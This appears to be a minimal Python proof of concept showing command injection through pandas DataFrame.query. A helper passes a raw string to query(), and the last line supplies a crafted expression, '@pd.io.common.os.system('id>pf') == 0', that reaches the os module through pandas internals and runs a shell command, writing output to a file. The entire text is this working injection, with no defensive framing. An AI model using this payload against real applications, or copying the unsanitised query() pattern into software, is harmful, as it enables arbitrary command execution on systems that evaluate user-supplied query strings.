import pandas as pd, os
def pick(df, text):
    return df.query(text)
pick(pd.DataFrame({"a": [1]}), "@os.system('id>pf') == 0") if 0 else pick(pd.DataFrame({"a": [1]}), "@pd.io.common.os.system('id>pf') == 0")
